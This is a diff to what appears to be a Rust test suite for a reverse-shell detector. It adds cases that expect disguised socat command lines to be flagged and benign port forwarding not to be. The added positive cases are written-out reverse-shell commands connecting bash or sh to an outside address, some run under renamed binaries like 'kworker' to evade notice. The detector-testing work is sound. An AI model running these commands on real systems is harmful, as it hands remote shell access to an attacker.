@@ -35,6 +35,11 @@ fn reverse_shells_are_seen_by_their_command_line_without_fd_access() {
         // longer counts, so the command line is all that tells.
         &["socat", "TCP:198.51.100.2:443", "EXEC:/bin/bash"],
         &["socat", "TCP4:198.51.100.2:443", "SYSTEM:sh"],
+        // A renamed socat (review D3): its address grammar says relay, whatever argv[0],
+        // in either order, over TLS too.
+        &["/dev/shm/.k", "TCP:198.51.100.2:443", "EXEC:/bin/bash"],
+        &["kworker", "exec:sh -li,stderr", "openssl:198.51.100.2:443,verify=0"],
+        &["./x", "-d", "tcp4-connect:198.51.100.2:53", "system:'bash -i'"],
     ] {
         // stdio unknown: the collector could not read the fd table (another uid).
         let shell = process(500, argv[0], None, argv);
@@ -54,6 +59,14 @@ fn reverse_shells_are_seen_by_their_command_line_without_fd_access() {
         ][..],
         &["nc", "-z", "-w1", "10.0.0.1", "5432"],
         &["ls", "/dev/tcp"],
+        // socat forwarding a port, and serving a local socket with a program: no shell
+        // on a connection to a peer.
+        &["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:10.0.0.7:80"],
+        &[
+            "socat",
+            "UNIX-LISTEN:/run/app.sock,fork",
+            "EXEC:/usr/bin/cat",
+        ],
     ] {
         let out = fires(process(501, argv[0], None, argv));
         assert!(
